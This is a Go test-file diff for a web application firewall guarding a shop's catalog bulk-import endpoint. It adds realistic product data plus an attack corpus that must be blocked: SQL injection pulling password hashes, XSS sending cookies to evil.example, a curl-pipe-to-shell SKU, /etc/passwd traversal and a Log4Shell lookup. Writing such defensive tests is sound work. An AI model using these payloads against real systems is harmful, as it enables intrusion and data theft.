@@ -36,7 +36,23 @@ func (rq request) build() *http.Request {
 
 func q(s string) string { return url.QueryEscape(s) }
 
-const jsonType, formType = "application/json", "application/x-www-form-urlencoded"
+const jsonType, formType, ndjsonType = "application/json", "application/x-www-form-urlencoded", "application/x-ndjson"
+
+// importLines is a catalog bulk import (docs/CATALOG.md) of realistic products, one per line, the
+// descriptions in the admin editor's HTML and prose; extra lines go second, to be inspected
+// among the others.
+func importLines(extra ...string) string {
+	lines := []string{
+		`{"slug":"mens-linen-shirt","title":"Men's linen shirt","brand":"Basics Co","description":"<p>Soft <strong>100% linen</strong> shirt &mdash; breathable.</p><ul><li>Machine wash at 30&deg;</li><li>Union-made in Portugal</li></ul><p><a href=\"/c/shirts\">More shirts</a> &amp; <em>sizes S-XXL</em>.</p>","categories":["clothing","shirts"],"attributes":{"material":"linen","fit":"regular"},"images":[{"url":"/media/ls-blu.jpg","alt":"Blue linen shirt"}],"status":"active","variants":[{"sku":"LS-BLU-M","price":{"amount":4999,"currency":"EUR"},"attributes":{"size":"M","colour":"blue"}},{"sku":"LS-BLU-L","price":{"amount":4999,"currency":"EUR"},"attributes":{"size":"L","colour":"blue"}}]}`,
+	}
+	lines = append(lines, extra...)
+	lines = append(lines,
+		`{"slug":"stoneware-mug","title":"Stoneware mug, 350 ml","brand":"Quill Press","description":"<h2>Stoneware mug</h2><p><img src=\"/media/mug.png\" alt=\"Blue mug, 350 ml\" width=\"400\"></p><p>See the <a href=\"https://example.com/care?lang=en&amp;v=2\" title=\"care guide\">care guide</a>. Dishwasher-safe; don't microwave it &gt; 2 min.</p>","categories":["home"],"status":"draft","variants":[{"sku":"MUG-350-BL","price":{"amount":1450,"currency":"EUR"}}]}`,
+		`{"id":"0190c3a2-7d1e-7c3b-9a55-3f0e2b9d4c11","slug":"rock-n-roll-tee","title":"Rock 'n' Roll Tee","description":"100% organic cotton; select your size below. Order by size, then drop in the cart.","categories":["clothing"],"status":"active","variants":[{"sku":"TEE-M","price":{"amount":2500,"currency":"EUR"}}]}`,
+		"",
+	)
+	return strings.Join(lines, "\n")
+}
 
 // attacks are sent to catalog, search, checkout and login; every one must be blocked.
 var attacks = []request{
@@ -81,6 +97,23 @@ var attacks = []request{
 	{name: "scanner user agent", method: "GET", target: "/api/v1/products", header: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
 	{name: "method not allowed by setup", method: "TRACE", target: "/api/v1/products"},
 	{name: "remote file inclusion", method: "GET", target: "/api/v1/products?template=" + q("http://203.0.113.7/shell.txt?")},
+	// inside the lines of a catalog import (10007 lets its NDJSON in, to be inspected line by line)
+	{name: "sqli in an import line", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x","title":"x' UNION SELECT email,password_hash FROM users--"}`)},
+	{name: "xss in an import description", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x","title":"X","description":"<p>Nice</p><script>fetch('//evil.example/'+document.cookie)</script>"}`)},
+	{name: "event handler in an import description", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x","title":"X","description":"<img src=x onerror=alert(1)>"}`)},
+	{name: "cmd injection in an import variant", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x","title":"X","variants":[{"sku":"$(curl http://evil.example/x.sh | sh)"}]}`)},
+	{name: "traversal in an import image", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x","title":"X","images":[{"url":"../../../../etc/passwd"}]}`)},
+	{name: "log4shell in an import attribute", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x","title":"X","attributes":{"material":"${jndi:ldap://evil.example/a}"}}`)},
+	{name: "import line that is not JSON", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x","title":"<script>alert(1)</script>`)},
+	{name: "second document hidden on an import line", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		body: importLines(`{"slug":"x"} {"description":"<script>alert(1)</script>"}`)},
 }
 
 // legitimate are what shoppers and admins really send; none may be blocked.
@@ -144,6 +177,11 @@ var legitimate = []request{
 	{name: "admin page product form with sql words in prose", method: "POST", target: "/admin/products/0190c3a2-7d1e-7c3b-9a55-3f0e2b9d4c11", contentType: formType,
 		body: "csrf_token=k1Zx9f&version=3&title=" + q("Rock 'n' Roll Tee") + "&description=" + q("<ul><li>Union-made in Portugal</li><li>100% organic cotton; select your size below</li></ul>") +
 			"&" + q("variants[0].sku") + "=TEE-M&" + q("variants[0].price.amount") + "=25.00"},
+	{name: "admin catalog bulk import", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+		header: map[string]string{"Authorization": "Bearer eyJhbGciOiJFZERTQSIsImtpZCI6IjEifQ.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"},
+		body:   importLines(`{"slug":"oak-desk","title":"Oak desk","brand":"Apex","description":"<p><strong>Solid oak</strong>, 120&times;60 cm.</p><p><img src=\"/media/desk.jpg\" alt=\"Oak desk\"></p>","categories":["home","furniture"],"attributes":{"width_cm":120,"depth_cm":60},"status":"active","variants":[{"sku":"DESK-OAK","price":{"amount":34900,"currency":"EUR"}}]}`)},
+	{name: "admin catalog bulk import with charset and CRLF", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType + "; charset=utf-8",
+		body: strings.ReplaceAll(importLines(), "\n", "\r\n")},
 }
 
 func TestAttackCorpusIsBlocked(t *testing.T) {
@@ -212,6 +250,42 @@ func TestExclusionsStayNarrow(t *testing.T) {
 			rec := serve(h, request{method: "POST", target: tc.target, contentType: jsonType, body: tc.body}.build())
 			if blocked := rec.Code >= 400 && rec.Header().Get("Pasar-Incident") != ""; blocked != tc.wantBlocked {
 				t.Errorf("status %d, want blocked=%v", rec.Code, tc.wantBlocked)
+			}
+		})
+	}
+}
+
+// TestImportExclusionStaysNarrow checks 10007: NDJSON gets in only as a POST to the import, is
+// read line by line there, and the description exclusions reach an import line's description and
+// nothing else.
+func TestImportExclusionStaysNarrow(t *testing.T) {
+	t.Parallel()
+	h := testWAF(t, Block, nil).Wrap(echo)
+	const imp = "/api/v1/admin/products/import"
+	html := `{"slug":"mug","description":"<p><img src=\"/media/mug.png\" alt=\"Blue mug\"></p>"}`
+	for _, tc := range []struct {
+		name, method, target, contentType, body string
+		want                                    int // status
+	}{
+		{"html description in an import", "POST", imp, ndjsonType, importLines(html), 200},
+		{"sql words in import description prose", "POST", imp, ndjsonType, importLines(`{"slug":"tee","description":"Union-made in Portugal. 100% cotton; select your size below."}`), 200},
+		{"html in an import title", "POST", imp, ndjsonType, importLines(`{"slug":"mug","title":"<p><img src=\"/m.png\" alt=\"x\"></p>"}`), 403},
+		{"html in a nested description", "POST", imp, ndjsonType, importLines(`{"slug":"mug","attributes":{"description":"<p><img src=\"/m.png\" alt=\"x\"></p>"}}`), 403},
+		{"sql injection in an import description", "POST", imp, ndjsonType, importLines(`{"slug":"x","description":"x' UNION SELECT password FROM users--"}`), 403},
+		{"ndjson on another admin route", "POST", "/api/v1/admin/products", ndjsonType, html, 403},
+		{"ndjson on a look-alike route", "POST", imp + "x", ndjsonType, html, 403},
+		{"ndjson put to the import", "PUT", imp, ndjsonType, html, 403},
+		{"another content type on the import", "POST", imp, "application/x-ndjson-seq", html, 403},
+		{"jsonl on the import", "POST", imp, "application/jsonl", html, 403},
+		// Not one JSON document: refused as before, send application/x-ndjson.
+		{"json lines sent as application/json", "POST", imp, jsonType, importLines(), 400},
+		{"a broken import line", "POST", imp, ndjsonType, importLines(`{"slug":"x",`), 400},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			rec := serve(h, request{method: tc.method, target: tc.target, contentType: tc.contentType, body: tc.body}.build())
+			if rec.Code != tc.want || (tc.want != 200) != (rec.Header().Get("Pasar-Incident") != "") {
+				t.Errorf("status %d, want %d: %s", rec.Code, tc.want, rec.Body)
 			}
 		})
 	}
@@ -327,6 +401,15 @@ var endpoints = []struct {
 	{"checkout form street line", func(v string) request {
 		return request{method: "POST", target: "/checkout", contentType: formType,
 			body: q("shipping_address.name") + "=Jane+Roe&" + q("shipping_address.line1") + "=1+High+St&" + q("shipping_address.line2") + "=" + q(v)}
+	}},
+	{"catalog import line", func(v string) request {
+		return request{method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+			body: importLines(`{"slug":"x","title":` + js(v) + `,"status":"draft"}`)}
+	}},
+	// The description has its own exclusions (10001, 10002).
+	{"catalog import description", func(v string) request {
+		return request{method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
+			body: importLines(`{"slug":"x","title":"X","description":` + js(v) + `}`)}
 	}},
 	{"login json", func(v string) request {
 		return request{method: "POST", target: "/api/v1/auth/login", contentType: jsonType, body: `{"email":` + js(v) + `,"password":"x"}`}
